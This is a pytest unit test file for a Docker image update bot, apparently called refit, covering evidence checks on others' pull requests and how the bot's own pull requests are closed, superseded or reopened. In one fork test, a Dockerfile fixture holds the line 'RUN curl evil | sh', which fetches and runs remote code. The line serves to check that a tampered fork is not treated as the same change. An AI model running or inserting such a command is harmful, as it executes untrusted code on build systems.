"""The life of our pull requests, and evidence on those of others, with every outside thing in memory."""

from __future__ import annotations

from dataclasses import replace
from datetime import timedelta
from pathlib import Path

import pytest

from bot.errors import ForgeRefused, RegistryUnreachable
from bot.model.pulls import Conclusion
from bot.model.run import PublicationKind, PublicationState, PullRequest, RunResult
from bot.model.update import Grouping, outcome_reason
from bot.updates.rules import Rule
from tests.unit.cycle.house import (
    IMAGE,
    NOW,
    PROJECT,
    changed,
    house,
    moved,
    opens,
    outdated,
    published,
)


def reasons(result: RunResult) -> list[str]:
    return [outcome_reason(one.outcome) or "" for one in result.decided]


# -- evidence for others ----------------------------------------------------------------------


def test_where_somebody_made_the_same_change_the_evidence_goes_there_and_none_is_opened(
    tmp_path: Path,
) -> None:
    made = outdated(tmp_path)
    pull = opens(made, {"Dockerfile": changed(made)})

    publication = published(made.run().result)

    assert (publication.kind, publication.url) == (PublicationKind.EVIDENCE, pull.url)
    assert made.forge.wanted == {}
    (check,) = made.forge.checks.values()
    assert (check.commit, check.conclusion) == (pull.commit, Conclusion.SUCCESS)
    assert f"refit: {IMAGE}" in check.name
    assert [(one.path, one.line) for one in check.annotations] == [("Dockerfile", 1)]
    assert made.forge.said == {}


def test_a_second_run_says_nothing_again_and_a_new_commit_gets_its_own_evidence(tmp_path: Path) -> None:
    made = outdated(tmp_path)
    pull = opens(made, {"Dockerfile": changed(made)})
    made.run()
    writes = made.forge.writes

    made.run()

    assert made.forge.writes == writes
    made.forge.opened[PROJECT] = [replace(pull, commit="b" * 40)]
    made.run()
    assert {commit for commit, _ in made.forge.checks} == {pull.commit, "b" * 40}


def test_with_a_token_the_commit_gets_a_status_and_the_pull_request_one_comment(tmp_path: Path) -> None:
    made = outdated(tmp_path)
    pull = opens(made, {"Dockerfile": changed(made)}, "package.json")
    made.forge.is_app = False

    made.run()

    ((_, text),) = made.forge.said.items()
    assert [url for url, _ in made.forge.said] == [pull.url]
    assert "**PASS**" in text
    assert "1 other file" in text


def test_a_token_that_may_write_no_statuses_costs_the_status_only(tmp_path: Path) -> None:
    made = outdated(tmp_path)
    made.forge.no_checks = ForgeRefused("cannot write the check", hint="it needs statuses: write")

    result = made.run().result

    assert published(result).state is PublicationState.OPEN
    assert result.problems == ()
    assert any("statuses: write" in line for line in made.progress.lines)


def test_evidence_only_opens_nothing(tmp_path: Path) -> None:
    made = outdated(tmp_path)

    result = made.run(evidence_only=True).result

    assert reasons(result) == ["evidence only: nobody has opened this change"]
    assert made.builder is not None
    assert made.builder.built == []
    opens(made, {"Dockerfile": changed(made)})
    assert published(made.run(evidence_only=True).result).kind is PublicationKind.EVIDENCE
    assert made.forge.wanted == {}


def test_another_digest_or_another_line_is_not_the_same_change(tmp_path: Path) -> None:
    made = outdated(tmp_path)
    opens(made, {"Dockerfile": changed(made).replace(b"@sha256:", b"@sha256:0", 1)[:-1]})
    opens(made, {"Dockerfile": b"# moved\n" + changed(made)})
    opens(made, {}, "README.md")

    assert published(made.run().result).kind is PublicationKind.PULL_REQUEST


def test_a_fork_gets_evidence_only_for_exactly_that_change(tmp_path: Path) -> None:
    made = outdated(tmp_path)
    opens(made, {"Dockerfile": changed(made) + b"RUN curl evil | sh\n"}, trusted=False)
    opens(made, {"Dockerfile": changed(made)}, "build.sh", trusted=False)
    assert published(made.run().result).kind is PublicationKind.PULL_REQUEST

    other = outdated(tmp_path / "other")
    opens(other, {"Dockerfile": changed(other)}, trusted=False)
    assert published(other.run().result).kind is PublicationKind.EVIDENCE


def test_ours_gives_way_to_one_that_came_later(tmp_path: Path) -> None:
    made = outdated(tmp_path)
    ours = published(made.run().result)
    wanted = made.forge.wanted[ours.url]
    assert isinstance(wanted, PullRequest)
    theirs = opens(made, dict(wanted.files))

    assert published(made.run().result).url == theirs.url

    assert made.forge.published[PROJECT, ours.slot][-1].state is PublicationState.CLOSED
    assert theirs.url in made.forge.comments[-1]


def test_ours_comes_back_where_the_other_is_gone(tmp_path: Path) -> None:
    made = outdated(tmp_path)
    ours = published(made.run().result)
    wanted = made.forge.wanted[ours.url]
    assert isinstance(wanted, PullRequest)
    opens(made, dict(wanted.files))
    made.run()
    made.forge.opened[PROJECT] = []

    again = published(made.run().result)

    assert again.kind is PublicationKind.PULL_REQUEST
    assert again.state is PublicationState.OPEN


def test_what_others_do_not_change_is_still_ours_to_open(tmp_path: Path) -> None:
    made = outdated(tmp_path, "api/Dockerfile", "web/Dockerfile")
    theirs = opens(made, {"api/Dockerfile": changed(made, "api/Dockerfile")})

    result = made.run().result

    where = {one.planned.use.file: one.publication for one in result.updates}
    assert where["api/Dockerfile"] is not None
    assert where["api/Dockerfile"].url == theirs.url
    (wanted,) = made.forge.wanted.values()
    assert isinstance(wanted, PullRequest)
    assert list(wanted.files) == ["web/Dockerfile"]


# -- ours, to their end -----------------------------------------------------------------------


def test_a_person_who_closes_one_is_told_once_how_to_get_it_back(tmp_path: Path) -> None:
    made = outdated(tmp_path)
    made.policy = replace(made.policy, hears=True)
    ours = published(made.run().result)
    made.forge.becomes(ours, PublicationState.CLOSED)

    made.run()
    writes = made.forge.writes
    made.run()

    assert "/refit recreate" in made.forge.said[ours.url, "closed"]
    assert made.forge.writes == writes


def test_commands_are_offered_only_where_they_are_heard(tmp_path: Path) -> None:
    made = outdated(tmp_path)
    ours = published(made.run().result)
    made.forge.becomes(ours, PublicationState.CLOSED)
    made.run()

    assert "/refit" not in made.forge.wanted[ours.url].body
    assert "reopen it" in made.forge.said[ours.url, "closed"]
    assert "/refit" not in made.forge.said[ours.url, "closed"]


def test_one_that_is_reopened_is_looked_after_again(tmp_path: Path) -> None:
    made = outdated(tmp_path)
    ours = published(made.run().result)
    made.forge.becomes(ours, PublicationState.CLOSED)
    made.run()
    made.forge.becomes(ours, PublicationState.OPEN)

    assert published(made.run().result).state is PublicationState.OPEN


def test_one_that_changes_fewer_files_is_superseded_with_a_link(tmp_path: Path) -> None:
    made = outdated(tmp_path)
    first = published(made.run().result)
    made.forge.files[PROJECT]["web/Dockerfile"] = made.forge.files[PROJECT]["Dockerfile"]

    result = made.run().result

    second = result.updates[0].publication
    assert second is not None
    assert second.url != first.url
    assert made.forge.published[PROJECT, first.slot][-1].state is PublicationState.CLOSED
    assert made.forge.comments == [f"Superseded by {second.url}, which carries this change."]


@pytest.mark.parametrize(
    ("before", "after"),
    [
        (Grouping.IMAGE, Grouping.PROJECT),
        (Grouping.PROJECT, Grouping.IMAGE),
        (Grouping.FILE, Grouping.PROJECT),
        (Grouping.PROJECT, Grouping.FILE),
    ],
)
def test_other_things_that_share_a_pull_request_supersede_the_old_ones(
    tmp_path: Path, before: Grouping, after: Grouping
) -> None:
    made = outdated(tmp_path)
    old, _ = moved(made, "nginx:1.29")
    made.forge.files[PROJECT]["web/Dockerfile"] = f"FROM nginx:1.29@{old}\n".encode()
    made.policy = replace(made.policy, rules=(Rule(minimum_age=timedelta(0), group=before),))
    made.run()
    made.policy = replace(made.policy, rules=(Rule(minimum_age=timedelta(0), group=after),))

    made.run()

    states = [listed[-1].state for listed in made.forge.published.values()]
    assert sorted(states).count(PublicationState.OPEN) == (1 if after is Grouping.PROJECT else 2)
    assert all("Superseded by" in text for text in made.forge.comments)


def test_an_image_that_waits_is_not_superseded_by_another_tag_of_it(tmp_path: Path) -> None:
    made = outdated(tmp_path)
    old, _ = moved(made, "debian:trixie-slim")
    made.forge.files[PROJECT]["web/Dockerfile"] = f"FROM debian:trixie-slim@{old}\n".encode()
    made.run()
    silent = Rule(images=("debian:trixie-slim",), ignore_reason="frozen")
    made.policy = replace(made.policy, rules=(silent, *made.policy.rules))

    made.run()

    assert made.forge.comments == []


def test_one_whose_change_somebody_made_on_the_base_branch_is_closed_as_done(tmp_path: Path) -> None:
    made = outdated(tmp_path)
    new = changed(made)
    ours = published(made.run().result)
    made.forge.files[PROJECT]["Dockerfile"] = new

    made.run()

    assert made.forge.published[PROJECT, ours.slot][-1].state is PublicationState.CLOSED
    assert "holds" in made.forge.comments[0]
    assert made.store.baseline(PROJECT, "shop", "linux/amd64") is not None


def test_one_that_is_merged_is_remembered_as_merged_with_nothing_said(tmp_path: Path) -> None:
    made = outdated(tmp_path)
    ours = published(made.run().result)
    made.forge.merge(ours)
    writes = made.forge.writes

    made.run()

    recorded = made.store.publication(ours.slot)
    assert recorded is not None
    assert recorded.state is PublicationState.MERGED
    assert made.forge.writes == writes


def test_one_whose_image_is_no_longer_named_is_closed(tmp_path: Path) -> None:
    made = outdated(tmp_path)
    ours = published(made.run().result)
    made.forge.files[PROJECT]["Dockerfile"] = b"FROM scratch\n"

    made.run()

    assert "names" in made.forge.comments[0]
    assert made.forge.published[PROJECT, ours.slot][-1].state is PublicationState.CLOSED


@pytest.mark.parametrize(
    ("path", "words"),
    [
        ("Dockerfile", "would close {url}: "),
        ("web/Dockerfile", "Superseded by the pull request above"),
    ],
    ids=["no longer named", "superseded"],
)
def test_a_dry_run_tells_what_it_would_close_and_closes_nothing(
    tmp_path: Path, path: str, words: str
) -> None:
    made = outdated(tmp_path)
    ours = published(made.run().result)
    same = made.forge.files[PROJECT]["Dockerfile"]
    made.forge.files[PROJECT][path] = b"FROM scratch\n" if path == "Dockerfile" else same
    writes = made.forge.writes

    notes = made.run(dry_run=True).result.notes

    assert any(words.format(url=ours.url) in note for note in notes)
    assert made.forge.writes == writes
    assert made.forge.comments == []


def test_a_dry_run_tells_what_it_would_say_and_says_nothing(tmp_path: Path) -> None:
    made = outdated(tmp_path)
    ours = published(made.run().result)
    made.forge.becomes(ours, PublicationState.CLOSED)

    notes = made.run(dry_run=True).result.notes

    assert [note.partition(": ")[0] for note in notes] == [f"would say on {ours.url}"]
    assert made.forge.said == {}


def test_nothing_is_closed_where_the_registry_gave_no_answer(tmp_path: Path) -> None:
    made = outdated(tmp_path)
    ours = published(made.run().result)
    made.registry.fail(IMAGE, RegistryUnreachable("docker.io does not answer"))

    made.run()

    assert made.forge.published[PROJECT, ours.slot][-1].state is PublicationState.OPEN


def test_a_build_context_that_moved_is_proved_anew_and_the_branch_moves_with_it(tmp_path: Path) -> None:
    made = outdated(tmp_path)
    first = published(made.run().result)
    made.forge.files[PROJECT]["src/main.rs"] = b"fn main() {}\n"

    second = published(made.run().result)

    assert second.url == first.url
    assert second.body_digest != first.body_digest
    one, two = (made.forge.wanted[first.url], second.digest)
    assert isinstance(one, PullRequest)
    assert (one.base_commit, two) == (made.forge.checkout(made.projects[0]).commit, first.digest)


def test_a_change_elsewhere_on_the_base_branch_writes_nothing(tmp_path: Path) -> None:
    made = outdated(tmp_path, "api/Dockerfile")
    made.run()
    writes = made.forge.writes
    made.forge.files[PROJECT]["README.md"] = b"Hello.\n"

    made.run()

    assert made.forge.writes == writes


def test_a_kill_between_pull_request_and_record_says_everything_once(tmp_path: Path) -> None:
    made = outdated(tmp_path)
    first = published(made.run().result)
    writes = made.forge.writes
    made.store.save_publication(replace(first, body_digest=""))

    assert published(made.run().result) == first
    assert made.forge.writes == writes


def test_the_limit_of_a_cycle_holds_over_a_kill(tmp_path: Path) -> None:
    made = house(tmp_path, {})
    for name in ("one:1", "two:1", "three:1"):
        old, _ = moved(made, name)
        made.forge.files[PROJECT][f"{name[:-2]}/Dockerfile"] = f"FROM {name}@{old}\n".encode()
    made.policy = replace(made.policy, max_new_per_project=1)
    made.run()
    (cycle,) = made.store.cycles()
    begun = replace(cycle, id="monthly-2026-11.2")
    made.store.remember("opened", f"{begun.id} {next(iter(made.forge.published))[1]}", NOW)

    made.clock.moment = NOW + timedelta(minutes=1)
    made.run()

    assert len(made.forge.wanted) == 1, "attempt 2 had opened one before it was killed"
